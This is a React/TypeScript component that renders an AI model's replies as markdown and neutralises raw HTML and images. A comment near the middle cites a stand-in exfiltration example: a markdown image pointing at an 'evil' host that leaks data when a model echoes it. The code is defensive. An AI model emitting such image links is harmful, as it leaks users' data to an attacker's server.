"use client";

import { Streamdown, defaultRemarkPlugins } from "streamdown";

type Node = { type: string; value?: string; url?: string; alt?: string | null; children?: Node[] };

// Raw HTML in a reply is shown as text, never rendered: turn markdown's html nodes into text.
function remarkHtmlAsText() {
  const visit = (node: Node) => {
    if (node.type === "html") node.type = "text";
    node.children?.forEach(visit);
  };
  return (tree: Node) => visit(tree);
}

// No image in a reply is ever loaded (a task title like `![x](https://evil/?d=…)` echoed by the
// model would otherwise send data to that host): an image becomes a link showing its text. The
// page's CSP (img-src 'self' data:) enforces the same.
function remarkImagesAsLinks() {
  const visit = (node: Node) => {
    if (node.type === "image" || node.type === "imageReference") {
      const text = node.alt || node.url || "image";
      node.type = node.type === "image" ? "link" : "linkReference";
      node.children = [{ type: "text", value: text }];
      delete node.alt;
    }
    node.children?.forEach(visit);
  };
  return (tree: Node) => visit(tree);
}

const remarkPlugins = [...Object.values(defaultRemarkPlugins), remarkHtmlAsText, remarkImagesAsLinks];

export default function Markdown({ children, streaming }: { children: string; streaming: boolean }) {
  return (
    <Streamdown
      className="markdown space-y-2 break-words"
      remarkPlugins={remarkPlugins}
      mode={streaming ? "streaming" : "static"}
      isAnimating={streaming}
      controls={false}
    >
      {children}
    </Streamdown>
  );
}
